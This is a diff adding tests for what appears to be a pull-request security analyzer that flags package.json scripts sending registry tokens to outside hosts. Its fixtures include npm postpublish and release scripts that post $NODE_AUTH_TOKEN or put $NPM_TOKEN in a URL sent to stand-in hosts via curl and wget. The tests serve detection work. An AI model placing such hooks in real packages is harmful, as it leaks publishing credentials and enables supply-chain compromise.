@@ -650,6 +650,23 @@ describe('publish-token-redirect across files: a workflow of the base holds the 
   });
 });
 
+describe('suspicious-network-endpoint in package scripts: a token sent as data to another host', () => {
+  const found = (base: Record<string, string> | null, head: Record<string, string>) =>
+    analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
+      .findings.filter((f) => f.id === 'suspicious-network-endpoint')
+      .map((f) => `${f.severity} ${f.title}`);
+  it('reports a script the PR adds or changes that posts a registry token, or puts it in a URL, for another host', () => {
+    expect(found({ test: 'vitest' }, { test: 'vitest', postpublish: 'curl -s -X POST https://stats.pkg-insights.dev/publish -d "k=$NODE_AUTH_TOKEN"' })).toEqual(['high Script "postpublish" sends a secret named for another service to a host']);
+    expect(found({ release: 'npm publish' }, { release: 'npm publish && wget -qO- "https://hooks.release-notify.dev/v1?t=${NPM_TOKEN}"' })).toHaveLength(1);
+  });
+  it('leaves a token given to its own service or as a header, a script the base had, and a request carrying no token', () => {
+    expect(found({ test: 'vitest' }, { test: 'vitest', coverage: 'curl -s https://codecov.io/upload -d "token=$CODECOV_TOKEN"', notify: 'curl -H "Authorization: Bearer $NPM_TOKEN" -d @meta.json https://stats.pkg-insights.dev/' })).toEqual([]);
+    const ping = { postpublish: 'curl -s -d "k=$NODE_AUTH_TOKEN" https://stats.pkg-insights.dev/' };
+    expect(found(ping, { ...ping, test: 'vitest' })).toEqual([]);
+    expect(found({ test: 'vitest' }, { test: 'vitest', postpublish: 'curl -s -X POST -d "v=$npm_package_version" https://stats.pkg-insights.dev/publish' })).toEqual([]);
+  });
+});
+
 describe('publish-token-redirect in package scripts', () => {
   const found = (base: Record<string, string> | null, head: Record<string, string>) =>
     analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
